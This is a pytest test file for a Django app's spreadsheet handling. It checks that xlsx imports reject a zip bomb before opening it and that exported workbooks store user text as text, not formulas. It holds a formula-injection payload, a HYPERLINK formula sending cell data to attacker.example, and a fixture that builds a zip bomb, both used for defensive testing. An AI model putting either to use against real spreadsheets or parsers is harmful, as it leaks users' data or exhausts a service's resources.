"""Every xlsx the app writes keeps user text as text, every xlsx it reads is checked for its
unpacked size first, and every POSTed `next` stays on the site: the call sites outside the
payroll exports (activities, attendance, the policy simulation)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from ekinerja.activities import xlsx as activity_xlsx
from ekinerja.attendance.parsing import parse_file
from ekinerja.core.spreadsheets import XLSX_TOO_LARGE

FORMULA = '=HYPERLINK("http://attacker.example/?d="&B1,"Lihat")'


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """About 200 KB that unpack to 201 MB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/sharedStrings.xml", "w") as f:
            for _ in range(201):
                f.write(b"A" * (1 << 20))
    return buf.getvalue()


def _never_opened(monkeypatch):
    def refuse(*a, **k):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    monkeypatch.setattr("openpyxl.reader.excel.load_workbook", refuse, raising=False)


def test_the_activity_import_refuses_a_zip_bomb_before_opening_it(bomb, monkeypatch):
    _never_opened(monkeypatch)
    upload = SimpleUploadedFile("aktivitas.xlsx", bomb)
    with pytest.raises(ValidationError) as err:
        activity_xlsx.read_rows(upload, [("tanggal", 12)])
    assert err.value.message_dict["file"] == [XLSX_TOO_LARGE]  # not "damaged": never opened


def test_the_punch_import_refuses_a_zip_bomb_before_opening_it(bomb, monkeypatch):
    _never_opened(monkeypatch)
    parsed = parse_file("mesin.xlsx", bomb)
    assert parsed.errors == [(1, XLSX_TOO_LARGE)]


def test_the_activity_workbooks_write_names_as_text():
    data = activity_xlsx._book(lambda wb: wb.add_worksheet("A").write(0, 0, FORMULA))  # noqa: SLF001
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == FORMULA and ws["A1"].data_type == "s"
